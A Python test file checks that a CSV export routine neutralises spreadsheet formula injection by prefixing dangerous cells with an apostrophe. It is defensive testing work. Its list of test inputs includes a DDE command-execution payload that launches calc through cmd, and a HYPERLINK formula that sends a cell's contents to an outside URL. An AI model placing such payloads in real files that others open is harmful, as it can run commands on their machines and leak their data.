"""No cell of a CSV file that we write is computed by the spreadsheet that opens it."""

import csv

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from persona_assets import csv_files

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "-",
    "--5",
    "+44 20 7946 0000",
]
HARMLESS = ["", "a=b", "p-1", "'=1", "user@example.com", "-5", "+3.25", "-1e-9", "-1,234.50", "-.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_computed_gets_an_apostrophe(text):
    assert csv_files.without_formulas(pl.DataFrame({"a": [text]})).item() == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_stay(text):
    assert csv_files.without_formulas(pl.DataFrame({"a": [text]})).item() == text


def test_numbers_nulls_and_other_types_stay_and_names_of_columns_are_texts():
    frame = pl.DataFrame({"=cmd": [-1], "b": [-0.5], "c": [None], "d": [True]})
    result = csv_files.without_formulas(frame)
    assert result.columns == ["'=cmd", "b", "c", "d"]
    assert result.rows() == frame.rows()
    assert csv_files.without_formulas(frame.clear()).is_empty()


@settings(max_examples=50)
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1))
def test_every_text_comes_back_with_at_most_an_apostrophe_more(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    csv_files.write(pl.DataFrame({"name": texts, "other": 1}), path)
    with path.open(newline="", encoding="utf-8") as file:
        read = [row["name"] for row in csv.DictReader(file)]
    assert [each.removeprefix("'") for each in read] == [each.removeprefix("'") for each in texts]
    assert not any(each[:1] in tuple("=@\t\r\n") for each in read if each)
